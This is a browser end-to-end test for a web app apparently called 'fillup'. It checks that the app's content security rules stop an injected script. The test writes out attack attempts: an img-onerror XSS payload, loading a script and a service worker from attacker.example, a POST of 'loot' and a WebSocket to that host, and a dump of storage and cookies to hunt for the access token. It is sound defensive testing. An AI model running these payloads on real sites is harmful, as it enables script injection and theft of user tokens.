import { expect, test, Tracker } from './tracker';

test('a script that gets in gains no foothold, finds one token, and reaches no other host', async ({
  browser,
  baseURL,
}) => {
  // A page of its own: what the browser refuses, it also complains of.
  const context = await browser.newContext({ baseURL, locale: 'en-US' });
  const page = await context.newPage();
  const asked = page.waitForRequest((request) => request.headers()['authorization'] !== undefined);
  const tracker = new Tracker(page);
  await tracker.open();
  await tracker.tapCup();
  await tracker.expectSent();
  const { authorization = '' } = await (await asked).allHeaders();
  const accessToken = authorization.replace('Bearer ', '');
  expect(accessToken.length).toBeGreaterThan(20);

  const attempts = await page.evaluate(`(async () => {
    const outcome = async (act) => {
      try {
        await act();
        return 'done';
      } catch (error) {
        return error.name;
      }
    };
    const script = document.createElement('script');
    return {
      markup: await outcome(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')),
      inline: await outcome(() => (script.text = 'alert(1)')),
      foreign: await outcome(() => (script.src = 'https://attacker.example/x.js')),
      worker: await outcome(() => navigator.serviceWorker.register('https://attacker.example/sw.js')),
      policy: await outcome(() => trustedTypes.createPolicy('default', { createHTML: (text) => text })),
      samePolicy: await outcome(() => trustedTypes.createPolicy('fillup', { createScriptURL: (url) => url })),
      send: await outcome(() => fetch('https://attacker.example/', { method: 'POST', body: 'loot' })),
      listen: await outcome(() => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://attacker.example/');
        socket.onopen = resolve;
        socket.onerror = () => reject(new TypeError());
      })),
    };
  })()`);
  expect(attempts).toEqual({
    markup: 'TypeError',
    inline: 'TypeError',
    foreign: 'TypeError',
    worker: 'TypeError',
    policy: 'TypeError',
    samePolicy: 'TypeError',
    send: 'TypeError',
    listen: 'TypeError',
  });

  const kept = await page.evaluate(`new Promise((resolve) => {
    const opening = indexedDB.open('fillup');
    opening.onsuccess = async () => {
      const tx = opening.result.transaction([...opening.result.objectStoreNames]);
      const all = (name) => new Promise((done) => {
        const reading = tx.objectStore(name).getAll();
        reading.onsuccess = () => done(reading.result);
      });
      const rows = await Promise.all([...opening.result.objectStoreNames].map(all));
      resolve(JSON.stringify([rows, { ...localStorage }, { ...sessionStorage }, document.cookie]));
    };
  })`);
  expect(kept).not.toContain(accessToken);
  expect(String(kept).match(/token/gi)).toEqual(['Token']);
  expect(kept).toMatch(/,\{\},\{\},""\]$/);
  await context.close();
});
